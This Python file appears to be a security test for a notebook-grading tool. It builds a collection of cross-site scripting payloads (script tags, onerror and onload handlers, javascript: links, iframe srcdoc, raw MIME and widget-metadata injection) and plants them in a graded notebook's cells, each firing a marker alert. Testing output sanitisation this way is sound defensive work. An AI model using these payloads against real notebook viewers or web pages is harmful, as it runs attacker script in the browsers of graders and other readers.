"""Have a script run in the browser of whoever opens the graded notebook."""

CODE = r"""
from IPython.display import HTML, Javascript, SVG, Latex, Markdown, display
alert = "alert('@MARK@')"
script = f"<script>{alert}</script>"
widget = "application/vnd.jupyter.widget-view+json"
display(HTML(f'{script}<img src=x onerror="{alert}"><a href="javascript:{alert}">x</a>'))
display(Javascript(alert))
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{alert}\">{script}</svg>"))
display(Markdown(script), Latex(f"</div>{script}"))
display({"image/png": f'">{script}'}, raw=True, metadata={"image/png": {"width": f"1 onerror={alert}"}})
display({widget: {"model_id": f"</script>{script}"}}, raw=True)
page = f'<iframe srcdoc="{script}"></iframe>{script}'
display({"text/html": page}, raw=True, metadata={"text/html": {"isolated": True}})
print(f"\x1b]8;;javascript:{alert}\x1b\\x{script}")
"""


def notebook(released):
    from nbformat.v4 import new_markdown_cell

    text = "<script>alert('@MARK@')</script> <img src=x onerror=alert('@MARK@')> [x](javascript:alert('@MARK@'))"
    released.cells.append(new_markdown_cell(text))
    next(cell for cell in released.cells if cell.metadata.nbgrader.grade_id == "explain").source = text
